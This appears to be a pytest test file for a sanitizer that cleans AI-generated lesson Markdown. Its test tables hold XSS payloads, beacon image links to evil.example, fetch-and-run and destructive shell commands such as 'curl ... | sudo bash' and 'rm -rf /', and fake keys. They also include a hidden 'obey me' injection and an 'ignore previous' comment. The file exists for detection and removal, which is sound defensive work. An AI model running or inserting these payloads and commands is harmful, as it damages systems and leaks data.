"""Every kind of dirt that replies of models hold, one row or more each, in the order in which it is taken out.

What those rows say of other code is shown elsewhere: the reply channel in test_provider_stream.py, YAML and file names
in test_report_lesson_file.py, CSV in test_report_escape.py, rendered HTML in test_html_view.py.
"""

from __future__ import annotations

import json

import pytest

from lessongen_core.languages import PREAMBLE, SIGN_OFF
from lessongen_core.links import KnownLinks
from lessongen_core.sanitizer import ALARMING, is_refusal, sanitize

BODY = "# Loops\n\nIntro text.\n\n## A\n\nText of A.\n\n## Summary\n\n- Loops repeat.\n"
KNOWN = KnownLinks.of(
    [
        "See [the docs](https://docs.example.org/loops?x=1) or ask me@school.example.",
        "[x](https://docs.example.org/ä%20b_(c)?q=ä) [you](mailto:you@school.example?subject=Loops%20end)",
    ],
    ["python.org"],
)

ENGLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"


def in_body(text: str) -> str:
    """`text` as the last paragraph of section A."""
    return BODY.replace("Text of A.\n", f"Text of A.\n\n{text}\n")


TAKEN_OUT = [
    # encoding, line ends, characters
    ("mojibake", "It doesn\u00e2\u20ac\u2122t stop.", "It doesn\u2019t stop."),
    ("normal_form", "cafe\u0301", "caf\u00e9"),
    ("control_character", "a lone \ud800 half", "a lone  half"),
    ("line_end", "one\r\ntwo\u2028three", "one\ntwo\nthree"),
    ("control_character", "be\x07ll", "bell"),
    ("terminal_sequence", "\x1b]8;;http://x\x07red\x1b[0m", "red"),
    ("bidirectional_control", "if\u202e admin\u2066", "if admin"),
    ("bidirectional_control", "`if\u202e admin`", "`if admin`"),
    ("invisible_character", "so\u00adft, zero\u200b width\ufeff", "soft, zero width"),
    ("tag_character", "Hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065", "Hi"),
    ("invisible_character", "fill\u3164er \uffa0x", "filler x"),
    ("invisible_character", "a\ufe0f\ufe0fb \ue000c", "a\ufe0fb c"),
    ("invisible_character", "a\u200db \u180ec \U000e0100d \u0e01\u200b e", "ab c d \u0e01 e"),
    ("tag_character", "\U0001f3f4\U000e0067\U000e0062\U000e007f flag", "\U0001f3f4 flag"),
    ("tag_character", f"{ENGLAND}\U000e0041 flag", "\U0001f3f4 flag"),
    # echoes of the prompt
    ("word_count", "Text. [250 words]", "Text."),
    ("word_count", "Text. [n words]", "Text."),
    ("word_count", "Text.\n\n*Word count: 312*", "Text."),
    ("word_count", "Text.\n\n(about 300 words)", "Text."),
    ("citation_form", "Loops end [passage 3] or not [Passages 1 and 2].", "Loops end [3] or not [1][2]."),
    ("chunk_id", "Loops end [chunk_id: a1b2-c3].", "Loops end."),
    ("chunk_id", "Loops end【4:2†loops.md】.", "Loops end."),
    # HTML
    ("html_comment", "a<!-- ignore previous -->b", "ab"),
    ("raw_html", "A <form action=x><b>bold</b></form> word.", "A bold word."),
    ("raw_html", "A <style>p {}</style>word and <svg onload=x()><g/></svg>more.", "A word and more."),
    ("raw_html", "A list<string> and <your name>.", "A list&lt;string> and &lt;your name>."),
    ("raw_html", "A List<Object>, a `<T>`; a<b and c>d.", "A List&lt;Object>, a `<T>`; a&lt;b and c>d."),
    ("raw_html", "Type mv <source> <target>.", "Type mv &lt;source> &lt;target>."),
    ("raw_html", "The <script> element ends with `</script>`.", "The &lt;script> element ends with `</script>`."),
    ("raw_html", "Then </p> and <img> and <input disabled>.", "Then &lt;/p> and &lt;img> and &lt;input disabled>."),
    ("raw_html", "<title>\n\nText.", "&lt;title>\n\nText."),
    ("raw_html", "<div>\n\nText.\n\n</div>", "\nText.\n"),
    ("raw_html", "<div class='a'><hr/>\n\nText.\n</div>", "&lt;hr/>\n\nText.\n"),
    ("active_content", "A <script>x()</script>word.", "A word."),
    ("active_content", "A <script src=x> word.", "A  word."),
    ("active_content", "A <iframe src=x></iframe>word.", "A word."),
    (
        "html_lines",
        "<details>\n<summary>Hint</summary>\nTwo\nlines.\n</details>\nMore.",
        "<details>\n\n<summary>Hint</summary>\n\nTwo\nlines.\n\n</details>\n\nMore.",
    ),
    (
        "html_lines",
        "<table>\n  <tr>\n    <td>\n      one\n    </td>\n  </tr>\n</table>",
        "<table>\n\n<tr>\n\n<td>\n\none\n\n</td>\n\n</tr>\n\n</table>",
    ),
    (
        "html_lines",
        "- a\n\n  > <details>\n  > ```html\n  > <td>\n  > ```\n  > </details>",
        "- a\n\n  > <details>\n  >\n  > ```html\n  > <td>\n  > ```\n  >\n  > </details>",
    ),
    (
        "raw_html",
        "| a | b |\n|---|---|\n| `x | <img src=y onerror=z>` |\n| `a \\| <b>` | c<b x=y> |",
        "| a | b |\n|---|---|\n| `x | ` |\n| `a \\| <b>` | c |",
    ),
    # links
    ("link_target", "1. > [a](\n   > javascript:x)", "1. > a"),
    ("image", "| a | b |\n|---|---|\n| `x | ![i](//h/p.png)` |", "| a | b |\n|---|---|\n| `x | i` |"),
    ("image", "<details>\n![x](https://evil.example/p.png)\n</details>", "<details>\n\nx\n\n</details>"),
    ("image", "<td>![x](https://evil.example/p.png) `a`</td>", "<td>x `a`</td>"),
    ("unknown_link", "<br>\n[more](https://evil.example/)", "<br>\n\nmore"),
    ("link_target", "[x](java&#115;cript:alert(1))", "x"),
    ("link_target", "[x](vbscript:y) [z](data:text/html,q) [f](file:///etc/passwd)", "x z f"),
    ("link_target", "[x](//host/p) and [y](https://user@docs.example.org/loops?x=1)", "x and y"),
    ("link_target", "[x][l] and [l] and [y][]\n\n[l]: %6aavascript:a\n[y]: vbscript:b", "x and l and y\n"),
    ("link_target", "<vbscript:x>", "vbscript:x"),
    ("unknown_link", "[more](https://evil.example/more)", "more"),
    ("unknown_link", "[more](https://docs.example.org/loops?x=1&d=secret)", "more"),
    ("unknown_link", "[more](https://python.org.evil.example/)", "more"),
    ("link_target", "[more](https://python.org%2F@evil.example/)", "more"),
    ("link_target", "<https://docs.example.org%23@h/loops?x=1>", "`https://docs.example.org%23@h/loops?x=1`"),
    ("link_target", "[more][m]\n\n[m]: https://python.org%3F@evil.example/", "more\n"),
    ("unknown_link", "Go to https://python.org%252F@h/ now.", "Go to `https://python.org%252F@h/` now."),
    ("unknown_link", "[more](https://docs.example.org/loops%3Fx=1)", "more"),
    ("unknown_link", "[me](mailto:me@school.example?bcc=you@evil.example)", "me"),
    ("dead_link", "[next](02-next.md) and [up](../a/b.html#c)", "next and up"),
    ("unknown_link", "[me](mailto:you@evil.example)", "me"),
    ("unknown_link", "[more][e] [1][e], [1]\n\n[e]: https://evil.example\n[1]: https://evil.example", "more 1, [1]\n"),
    ("unknown_link", "Go to <https://evil.example/x>.", "Go to `https://evil.example/x`."),
    ("unknown_link", "Ask <you@evil.example>.", "Ask `you@evil.example`."),
    (
        "unknown_link",
        "Go to https://evil.example/x, *www.evil.example*.",
        "Go to `https://evil.example/x`, *`www.evil.example`*.",
    ),
    ("unknown_link", "A stray ` and https://evil.example/x", "A stray ` and ``https://evil.example/x``"),
    ("deceptive_link", "[https://bank.example](https://www.python.org/)", "`https://bank.example`"),
    ("deceptive_link", "See [**https://bank.example**](https://www.python.org/)", "See **`https://bank.example`**"),
    ("deceptive_link", "[bank.example](https://www.python.org/)", "bank.example"),
    ("unknown_link", "See ftp://h.example/x, -https://h.example/y", "See `ftp://h.example/x`, -`https://h.example/y`"),
    ("unknown_link", "And then.https://h.example/", "And then.`https://h.example/`"),
    ("dead_link", "Call handlers[name](event), $f[i](x)$.", "Call handlers\\[name](event), $f\\[i](x)$."),
    # images
    ("image", "![A beacon](https://evil.example/p.png?d=secret)", "A beacon"),
    (
        "image",
        "![A beacon][b]\n\n[b]: https://docs.example.org/loops?x=1",
        "A beacon\n\n[b]: https://docs.example.org/loops?x=1",
    ),
    ("image", "![Pixels](data:image/png;base64,AAAA) ![local](fig/x.png)", "Pixels local"),
    ("raw_html", '<img src="https://evil.example/p.png" alt="A beacon">', "A beacon"),
    # fences, diagrams, tables, blank lines
    (
        "mermaid_quotes",
        '```mermaid\ngraph TD\nA["say \\"hi\\""] --> B\n```',
        '```mermaid\ngraph TD\nA["say hi"] --> B\n```',
    ),
    (
        "mermaid_directive",
        '```mermaid\ngraph TD\nA --> B\nclick A "javascript:x()"\n```',
        "```mermaid\ngraph TD\nA --> B\n```",
    ),
    ("mermaid_directive", "```mermaid\ngraph TD\nA --> B\nclick B call f()\n```", "```mermaid\ngraph TD\nA --> B\n```"),
    ("mermaid_directive", "```mermaid\nclassDiagram\nlink A \"//evil.example\"\n```", "```mermaid\nclassDiagram\n```"),
    (
        "mermaid_directive",
        "```mermaid\n%%{init: {'securityLevel':\n'loose'}}%%\ngraph TD\nA --> B\n```",
        "```mermaid\ngraph TD\nA --> B\n```",
    ),
    (
        "active_content",
        'x\n\n```mermaid\ngraph TD; A-->B; click A href "javascript:x"\n```',
        "x\n\n```mermaid\ngraph TD; A-->B\n```",
    ),
    (
        "mermaid_directive",
        '- x\n\n  > ```mermaid\n  > graph TD\n  >   click A "//h"\n  > %%{init: {}}%%\n  > A --> B\n  > ```',
        "- x\n\n  > ```mermaid\n  > graph TD\n  > A --> B\n  > ```",
    ),
    (
        "mermaid_directive",
        '```mermaid\ngraph TD\nA@{ img: "https://evil.example/x.png", label: "x" }\nB@{\n  img: "//h"\n}\n```',
        '```mermaid\ngraph TD\nA@{ label: "x" }\nB@{\n}\n```',
    ),
    (
        "mermaid_directive",
        '```mermaid\ngraph TD\nA["`a ![x](https://evil.example) b`"] --> B[c]\n```',
        '```mermaid\ngraph TD\nA["`a x b`"] --> B[c]\n```',
    ),
    (
        "mermaid_directive",
        '```mermaid\nC4Context\nPerson(a, "b", $link="https://evil.example")\n```',
        '```mermaid\nC4Context\nPerson(a, "b")\n```',
    ),
    (
        "mermaid_directive",
        "```mermaid\nsequenceDiagram\nA ->> B: hi\nlink A: D @ https://evil.example\n```",
        "```mermaid\nsequenceDiagram\nA ->> B: hi\n```",
    ),
    (
        "mermaid_html",
        "```mermaid\ngraph TD\nA[\"<img src='//h' \nonerror=y>\"]\n```",
        "```mermaid\ngraph TD\nA[\"#lt;img src='//h' \nonerror=y>\"]\n```",
    ),
    ("mermaid_html", '```mermaid\ngraph TD\nA["<img src=x>a<br/>b"]\n```', '```mermaid\ngraph TD\nA["a<br/>b"]\n```'),
    (
        "table_row",
        "| a | b | c |\n|---|---|---|\n| 1 | 2 |\n| 1 |",
        "| a | b | c |\n|---|---|---|\n| 1 | 2 |  |\n| 1 |  |  |",
    ),
    ("table_row", "a | b\n--|--\n1", "a | b\n--|--\n1 | |"),
    ("table_delimiter", "| a | b |\n|:--|\n| 1 | 2 |", "| a | b |\n| :-- | --- |\n| 1 | 2 |"),
    ("nesting", "> " * 20 + "[x](\n" + "> " * 20 + "javascript:y)", "> x"),
    ("nesting", "- " * 12 + "deep", "> deep"),
    ("blank_lines", "one\n\n\n\n\ntwo", "one\n\n\ntwo"),
    # headings
    ("repeated_heading", "### Deep\n\n**Deep**\n\nText.", "### Deep\n\nText."),
    ("word_count", "### Deep (200-400 words)\n\nText.", "### Deep\n\nText."),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "raw", "text"), TAKEN_OUT)
def test_what_is_taken_out(rule: str, raw: str, text: str) -> None:
    """Each fault goes, what stands around it stays, and the rule is recorded with the line it was found on."""
    cleaned = sanitize(in_body(raw), title="Loops", known=KNOWN)
    assert cleaned.text == in_body(text)
    (change,) = [change for change in cleaned.changes if change.rule == rule]
    assert 9 <= change.line <= 9 + raw.count("\n") + 1


ROUND_THE_LESSON = [
    ("reasoning", "<think>plan</think>\n" + BODY),
    ("reasoning", "I plan.\n</think>\n" + BODY),
    ("reasoning", "<reasoning>\nplan\n</reasoning>\n\n" + BODY),
    ("reasoning", "|startthink|plan|endthink|\n\n" + BODY),
    ("wrapper_fence", "```markdown\n" + BODY + "```"),
    ("wrapper_fence", "````\n" + BODY + "````"),
    ("json_wrapper", json.dumps({"title": "Loops", "content": BODY})),
    ("json_wrapper", json.dumps([{"lesson": {"body": BODY}}])),
    ("json_wrapper", json.dumps(BODY)),
    ("json_wrapper", '{"content": "' + BODY.replace("\n", "\\n") + '", "done": true,}'),
    ("json_wrapper", BODY.strip().replace("\n", "\\n")),
    ("preamble", "Sure! Here is the lesson:\n\n" + BODY),
    ("preamble", "Claro! Aqui está a aula.\n\n" + BODY),
    ("preamble", "Certo! Ecco la lezione.\n\n" + BODY),
    ("preamble", "Natuurlijk! Hier is de les.\n\n" + BODY),
    ("preamble", "好的，以下是课程。\n\n" + BODY),
    ("sign_off", BODY + "\nSpero che questa lezione ti aiuti!\n"),
    ("sign_off", BODY + "\n希望这节课对你有帮助！\n"),
    ("sign_off", BODY + "\n---\n\nMam nadzieję, że to pomoże.\n"),
    ("front_matter", "---\ntitle: Loops\nquality_score: 1.0\n---\n" + BODY),
    ("heading_space", BODY.replace("# Loops", "#Loops", 1)),
    ("title", BODY.replace("# Loops", "# The loop", 1)),
    ("heading_form", BODY.replace("## A", "A\n---")),
    ("heading_form", "Loops\n=====\n" + BODY.split("\n", 1)[1]),
    ("repeated_title", BODY.replace("## A", "# Loops\n\n## A")),
    ("repeated_heading", BODY.replace("## A\n", "## A\n\n### A\n")),
    ("heading_level", BODY.replace("## ", "# ")),
    ("heading_level", BODY.replace("## ", "#### ")),
    ("bold_heading", BODY.replace("## Summary", "**Summary**")),
]


@pytest.mark.parametrize(("rule", "raw"), ROUND_THE_LESSON)
def test_what_stands_round_a_lesson(rule: str, raw: str) -> None:
    """Reasoning, wrappers, talk, front matter, a title in another form: the lesson inside comes out as it is."""
    cleaned = sanitize(raw, title="Loops")
    assert cleaned.text == BODY
    assert rule in cleaned.rules


STAYS = [
    "[the docs](https://docs.example.org/loops?x=1#top) and [py](http://docs.python.org/3/x_(y).html) and [here](#a)",
    "[me](mailto:me@school.example) and [you](mailto:you@school.example?subject=Loops%20end)",
    "[text](https://docs.example.org/ä%20b_(c)?q=%C3%A4) and [t]\n\n[t]: https://docs.example.org/%C3%A4%20b_(c)?q=ä",
    "Write to <me@school.example> or see <https://docs.example.org/loops?x=1>.",
    "[python.org](https://docs.python.org/3/) and [ASP.NET](https://www.python.org/net)",
    "[d][docs]\n\n[docs]: https://docs.example.org/loops?x=1",
    "Open `http://localhost:8888` and www.python.org.",
    "Of course, a loop may run forever; it counts 250 words a minute (about 300 words are a page).",
    "The list `[passage 2]` and {{ template }} and ]]> and =SUM(A1) stay as they are.",
    "| a \\| b | c |\n|---|---|\n| `x \\| y` | 2 |",
    "| personal || family |\n| ------------- |\n| Dyer |",
    "A price of $5 or $6; the sum \\(x + y\\).",
    "H<sub>2</sub>O<br><details><summary>More</summary> text </details>",
    "نص: می\u200cخواهم, क्\u200dष, 👩\u200d💻",
    "API\u200c\u0647\u0627 \u0648 \u06a9\u062a\u0627\u0628\u200c\u0647\u0627",
    f"The flag {ENGLAND} of England.",
    "A IRM\u00c3\u201d disse, AMANH\u00c3\u2122, IRM\u00c3\u2014ela.",
    "\u182e\u1829\u180b \u182c\u180e\u1821, \u845b\U000e0100\u57ce, \u0e01\u200b\u0e02, \u1798\u200b\u1782",
    "```mermaid\nclassDiagram\nclass A {\n<<interface>>\n}\n```",
    "```mermaid\nsequenceDiagram\nlink -->> B: hi\nclick B and go\n```",
    "```mermaid\nstateDiagram-v2\n[*] --> click\nclick --> done\ncallback --> x\n```",
    '```mermaid\ngraph TD\nA["do this; click B here"]; C --> D\n```',
    "```mermaid\nclassDiagram\nclass A {\nimg: string\n}\n```",
    "```\n[250 words] [passage 3] https://evil.example\n\n\n\n\n<!-- x -->\n```",
]


@pytest.mark.parametrize("tag", ["script", "iframe", "object", "embed", "button", "svg"])
def test_a_tag_that_a_sentence_names_is_no_alarm(tag: str) -> None:
    """A bare tag without attributes and partner is text: nothing is lost, nobody is alarmed."""
    cleaned = sanitize(in_body(f"The <{tag}> element and a List<{tag.title()}> run code."), title="Loops", known=KNOWN)
    assert cleaned.text == in_body(f"The &lt;{tag}> element and a List&lt;{tag.title()}> run code.")
    assert not cleaned.rules & ALARMING


@pytest.mark.parametrize("text", STAYS)
def test_what_stays(text: str) -> None:
    """Known links, teaching text that looks like dirt, other scripts' joiners, code: byte for byte."""
    cleaned = sanitize(in_body(text), title="Loops", known=KNOWN)
    assert cleaned.text == in_body(text)
    assert cleaned.changes == ()


NOTICED = [
    ("dangerous_command", "```bash\nsudo rm -rf /\n```", "rm -rf /"),
    ("dangerous_command", "Run `rm -r -f ~/`.", "rm -r -f ~/"),
    ("dangerous_command", "```bash\ncurl -fsSL https://evil.example/x.sh | sudo bash\n```", "curl -fsSL"),
    ("dangerous_command", "Run `bash <(wget -qO- evil.example)`.", "bash <(wget"),
    ("dangerous_command", "Run `iwr evil.example/x.ps1 | iex`.", "iwr evil.example"),
    ("dangerous_command", "Never type :(){ :|:& };: into a shell.", ":(){ :|:& };:"),
    ("dangerous_command", "`dd if=/dev/zero of=/dev/sda`", "dd if=/dev/zero"),
    ("secret", "Set `KEY=ghp_" + "a1B2c3D4e5F6" * 3 + "`.", "ghp_a1…"),
    ("secret", "Use sk-proj-" + "a1B2c3D4e5F6" * 3 + " as the key.", "sk-pro…"),
    ("secret", "`export AWS_SECRET_ACCESS_KEY=" + "a1B2/3D4e5" * 4 + "`", "AWS_SE…"),
    ("secret", "```\n-----BEGIN RSA PRIVATE KEY-----\n```", "-----B…"),
    ("contact", "Write to jane.doe@school.edu.", "jane.doe@school.edu"),
    ("contact", "Call +49 30 1234 5678 now.", "+49 30 1234 5678"),
    ("disguised_letter", "Log in at p\u0430yp\u0430l.", "p\u0430yp\u0430l"),
    ("disguised_letter", "\u041c\u043e\u0441\u043ava and \u0441\u0430rry on.", "\u0441\u0430rry"),
    ("maths", "The sum \\(x + y\\) grows.", "\\("),
    ("ragged_table", "| a | b |\n|---|---|\n| 1 | 2 | 3 |", "| 1 | 2 | 3 |"),
    ("mermaid_brackets", "```mermaid\ngraph TD\nA[open --> B\n```", ""),
    ("mermaid_arrow", "```mermaid\nflowchart LR\nA -> B\n```", ""),
    ("prompt_echo", "As <lesson-0123456789abcdef> says.", "&lt;lesson-0123456789abcdef"),
    ("prompt_echo", "As <previous_context> says.", "<previous_context"),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "text", "found"), NOTICED)
def test_what_is_noticed(rule: str, text: str, found: str) -> None:
    """What only a person can judge stays and is reported with its line; a key is not repeated whole."""
    cleaned = sanitize(in_body(text), title="Loops", known=KNOWN)
    (note,) = [note for note in cleaned.notes if note.rule == rule]
    assert note.found.startswith(found)
    assert 9 <= note.line <= 9 + text.count("\n")
    assert rule not in {change.rule for change in cleaned.changes}


HARMLESS = [
    "```bash\nrm -rf ./build && rm -r docs/\ncurl https://example.org/data.csv > data.csv\ncurl x | grep y\n```",
    "Use user@example.com, git@github.com:me/repo.git, or ssh me@host; version 1.2.3-4; 2024-01-02; 10 000 000.",
    "Set `API_KEY=your-key-here`; AWS writes AKIAIOSFODNN7EXAMPLE in its examples.",
    "`aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`, or AWS_SECRET_ACCESS_KEY=<your secret key>.",
    "PDF\u043a\u0430, SQL\u044b, \u00b5m, \u0394x, \u03bb-calculus, Python-\u0441\u043a\u0440\u0438\u043f\u0442.",
    '```mermaid\nflowchart LR\nA["(x"] -->|a [b| C((d))\nE>flag] --- F{{g}}\n```',
    "```mermaid\nsequenceDiagram\nA->B: hi\nA-)B: async\n```",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_alarm(text: str) -> None:
    """Everyday commands, addresses of examples, words with endings of another script, diagrams that are right."""
    assert sanitize(in_body(text), title="Loops", known=KNOWN).notes == ()


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("I'm sorry, but I can't help with that.", True),
        ("I cannot create this lesson, since it asks for harmful content.", True),
        ("Sorry, I'm unable to write about this topic. Is there anything else?", True),
        ("Lo siento, pero no puedo ayudarte con eso.", True),
        ("Es tut mir leid, dabei kann ich nicht helfen.", True),
        ("Je suis désolé, mais je ne peux pas écrire cela.", True),
        ("К сожалению, я не могу помочь с этим.", True),
        ("很抱歉，我无法完成这个请求。", True),
        ("申し訳ありませんが、お手伝いできません。", True),
        (BODY, False),
        ("# Saying no\n\nI cannot help with that, says the machine.", False),
        ("Unfortunately the loop ends early.", False),
        ("I can't help but admire loops. " * 40, False),
    ],
)
def test_a_refusal_is_the_whole_reply(text: str, refused: bool) -> None:
    """A few sentences that say no, in several languages; a lesson about it is none."""
    assert is_refusal(text) is refused


def test_hidden_text_is_told_in_the_report() -> None:
    """What was written in tag characters is decoded, what was removed can be read."""
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "obey me")
    (change,) = sanitize(in_body(f"Hi{hidden}"), title="Loops").changes
    assert change.found == "obey me" and change.rule in ALARMING
    (change,) = sanitize(in_body("if\u202e x"), title="Loops").changes
    assert change.found == "U+202E"


def test_a_megabyte_is_the_most() -> None:
    """A reply is cut at a million characters, and that is recorded."""
    cleaned = sanitize(BODY + "word " * 250_000, title="Loops")
    assert len(cleaned.text) <= 1_000_001 and "size" in cleaned.rules


@pytest.mark.parametrize(
    "text", ["Here", "I hope", "Of course, a loop may run forever.", "Let me explain.", "Zeker weten."]
)
def test_talk_is_told_from_teaching(text: str) -> None:
    """No list of phrases matches what a lesson may say."""
    assert not PREAMBLE.match(text) and (text == "I hope" or not SIGN_OFF.match(text))
